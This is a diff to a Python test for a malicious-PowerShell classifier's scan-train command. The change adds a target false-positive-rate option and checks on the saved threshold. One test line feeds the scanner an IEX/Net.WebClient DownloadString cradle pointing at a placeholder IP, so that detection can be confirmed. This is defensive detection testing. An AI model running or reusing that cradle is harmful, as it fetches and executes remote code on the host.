@@ -31,11 +31,15 @@ def test_scan_train_command_writes_a_model_and_card(tmp_path: Path) -> None:
         (ben / f"b{i}.ps1").write_text(f"param($Path{i})\nGet-ChildItem $Path{i} | Where-Object Length -gt {i}\n")
     model = tmp_path / "model"
     res = CliRunner().invoke(app, ["scan-train", "-l", "powershell", "--malicious", str(mal), "--benign", str(ben),
-                                   "--model", str(model), "--licences", "written for this test"])
+                                   "--model", str(model), "--licences", "written for this test",
+                                   "--target-fpr", "0.0"])
     assert res.exit_code == 0, res.output
     card = (model / "MODEL_CARD.md").read_text()
     assert "written for this test" in card and "powershell" in card
     clf = ScriptClassifier.load(model)
+    st = clf.meta["languages"]["powershell"]
+    assert st["target_fpr"] == 0.0 and 0.05 <= st["threshold"] <= 0.95 and st["chars"] is False
+    assert "threshold" in card
     v = Scanner(model=clf).scan_text("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')")
     assert any(r.source == "model" for r in v.reasons)
     assert clf.predict_proba_text("powershell", "Get-ChildItem C:\\ | Where-Object Length -gt 3") < 0.5
